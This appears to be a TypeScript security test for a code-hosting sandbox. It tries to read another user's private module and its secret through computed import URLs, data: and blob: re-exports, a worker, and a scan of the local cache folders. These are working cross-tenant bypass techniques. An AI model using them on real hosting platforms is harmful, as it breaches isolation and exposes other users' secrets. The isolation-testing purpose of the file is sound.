// Imports another user's private val while it runs: by computed names, data: modules, workers, and its owner's token.
import { anyOf, attack, type Town } from "./attempt.ts";

const urls = ({ victim: { username, valName }, hamlet }: Town) =>
  ["https://esm.town", `http://esm.localhost:${hamlet}`, "https://ESM.town", "https://esm.town:443"].flatMap(
    (origin) =>
      ["", "@3-main", "@main", "@3"].map((pin) => `${origin}/v/${username}/${valName}${pin}/secret.ts`),
  );
const all = async (module: Promise<Record<string, unknown>>) => JSON.stringify({ ...(await module) });

export default attack({
  "by a name that is made up as it runs": (town) => anyOf(urls(town), (url) => all(import(url))),
  "as text": (town) => anyOf(urls(town), (url) => all(import(url, { with: { type: "text" } }))),
  "by a data: module": (town) =>
    anyOf(urls(town), (url) => all(import(`data:text/javascript,export * from ${JSON.stringify(url)}`))),
  "by a blob: module": (town) =>
    anyOf(urls(town), (url) =>
      all(
        import(
          URL.createObjectURL(new Blob([`export * from ${JSON.stringify(url)}`], { type: "text/javascript" }))
        ),
      ),
    ),
  "in a worker": (town) =>
    anyOf(urls(town).slice(0, 2), (url) => {
      const code = `import(${JSON.stringify(url)}).then((m) => postMessage(JSON.stringify({ ...m })), (e) => postMessage("refused: " + e))`;
      const worker = new Worker(`data:text/javascript,${encodeURIComponent(code)}`, { type: "module" });
      return new Promise((resolve, reject) => {
        worker.onerror = (event) => {
          event.preventDefault();
          reject(new Error(event.message));
        };
        worker.onmessage = ({ data }) => {
          worker.terminate();
          if (String(data).startsWith("refused")) reject(new Error(data));
          else resolve(data);
        };
      });
    }),
  "by the files of its own overlay": ({ victim }) =>
    anyOf(["/val/deno/remote", "/cache/remote", "/val", "/cache"], (folder) => {
      const found: string[] = [];
      for (const path of walk(folder))
        if (Deno.readTextFileSync(path).includes(victim.valName)) found.push(path);
      if (found.length === 0) throw new Error(`nothing of it in ${folder}`);
      // Its own source has that word too.
      const loot = found
        .map((path) => Deno.readTextFileSync(path))
        .find((text) => text.includes("export const secret"));
      if (loot === undefined) throw new Error(`nothing secret in ${folder}`);
      return loot;
    }),
});

function* walk(folder: string): Generator<string> {
  for (const { name, isFile, isDirectory } of Deno.readDirSync(folder)) {
    if (isDirectory && name !== "npm") yield* walk(`${folder}/${name}`);
    if (isFile) yield `${folder}/${name}`;
  }
}
